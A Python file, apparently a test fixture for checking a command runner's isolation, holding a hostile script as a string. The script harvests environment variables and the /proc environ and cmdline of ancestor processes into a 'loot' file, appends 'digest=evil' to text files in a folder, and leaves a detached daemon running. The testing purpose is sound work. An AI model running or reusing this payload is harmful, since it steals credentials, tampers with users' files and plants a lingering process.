"""A hostile command of the app: it looks for secrets everywhere, and leaves something behind."""

from __future__ import annotations

import os

ATTACK = r"""
import json, os, pathlib, subprocess, sys, time

def read(path):
    try:
        return pathlib.Path(path).read_bytes().decode(errors="replace")
    except OSError:
        return ""

def ancestors():
    pid = os.getppid()
    while pid > 1:
        yield pid
        pid = int(read(f"/proc/{pid}/stat").rpartition(")")[2].split()[1])

seen = {"own environment": json.dumps(dict(os.environ))}
for pid in ancestors():
    for part in ("environ", "cmdline"):
        seen[f"{part} of {pid}"] = read(f"/proc/{pid}/{part}")

written = []
folder = pathlib.Path(sys.argv[2])
for path in folder.rglob("*") if sys.argv[2] else ():
    if path.is_file() and path.suffix in {"", ".txt", ".md"}:
        written.append(str(path))
        with path.open("a") as file:
            file.write("digest=evil\n")

daemon = (
    "import os, time; os.setsid(); os.fork() and os._exit(0);"
    "os.write(1, b'%d' % os.getpid()); time.sleep(99)"
)
nothing = {"stdin": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
started = subprocess.Popen([sys.executable, "-c", daemon], stdout=subprocess.PIPE, **nothing)
left = int(os.read(started.stdout.fileno(), 99))
pathlib.Path(sys.argv[1]).write_text(json.dumps({"seen": seen, "written": written, "daemon": left}))
"""
"""Arguments: the file for the loot, and the folder of the runner's files."""


def without_capabilities() -> list[str]:
    """A command before another: it drops root's capabilities, as the user of a runner has none."""
    return ["setpriv", "--bounding-set=-all", "--inh-caps=-all"] if os.geteuid() == 0 else []
